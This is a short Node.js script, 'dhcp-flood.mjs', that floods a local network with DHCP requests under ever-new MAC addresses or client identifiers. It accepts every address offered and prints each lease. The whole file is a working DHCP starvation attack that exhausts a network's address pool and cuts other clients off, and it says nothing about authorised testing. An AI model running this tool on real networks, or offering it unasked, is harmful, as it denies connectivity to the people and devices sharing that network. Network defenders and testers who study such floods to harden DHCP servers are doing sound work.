// dhcp-flood.mjs RATE [COUNT [NAME]]: asks by DHCP in ever new names, RATE times a second, and takes each address
// that is offered. NAME is the beginning of the MACs, or a whole MAC, with which only the client identifiers are
// new. Prints a line for each lease. Ends after COUNT names, or when its standard input does.
import { createSocket } from 'node:dgram';

const cookie = [0x63, 0x82, 0x53, 0x63];
const [rate, count = Number.POSITIVE_INFINITY] = process.argv.slice(2, 4).map(Number);
const name = (process.argv[4] ?? '02:ee').split(':').map(pair => Number.parseInt(pair, 16));
const socket = createSocket('udp4');
let sent = 0;

/** Returns the MAC of the client whose name ends with these four bytes. */
function macOf(id) {
  return Buffer.from([...name, ...id].slice(0, 6));
}

/** Returns a message of a client whose name ends with these four bytes, which also are the transaction. */
function message(id, type, options) {
  const bytes = Buffer.alloc(300);
  bytes.set([1, 1, 6]);
  bytes.set(id, 4);
  bytes.writeUInt16BE(0x8000, 10);
  bytes.set(macOf(id), 28);
  const identifier = name.length === 6 ? [61, 5, 0, ...id] : [];
  bytes.set([...cookie, 53, 1, type, ...options, ...identifier, 255], 236);
  return bytes;
}

function send(bytes) {
  socket.send(bytes, 67, '255.255.255.255');
}

socket.on('message', reply => {
  const id = reply.subarray(4, 8);
  // Answers are broadcast: those of another flood come, too.
  if (!reply.subarray(28, 34).equals(macOf(id))) return;
  const [ip, type] = [reply.subarray(16, 20), reply[242]];
  if (type === 2) send(message(id, 3, [50, 4, ...ip, 54, 4, ...reply.subarray(20, 24)]));
  if (type === 5) console.log(ip.join('.'));
});
socket.bind(68, () => {
  socket.setBroadcast(true);
  setInterval(() => {
    // The last one gets its answer before the next would be sent.
    if (sent >= count) process.exit();
    const id = Buffer.alloc(4);
    id.writeUInt32BE(++sent);
    send(message(id, 1, []));
  }, 1000 / rate);
});
process.stdin.on('end', () => process.exit()).resume();
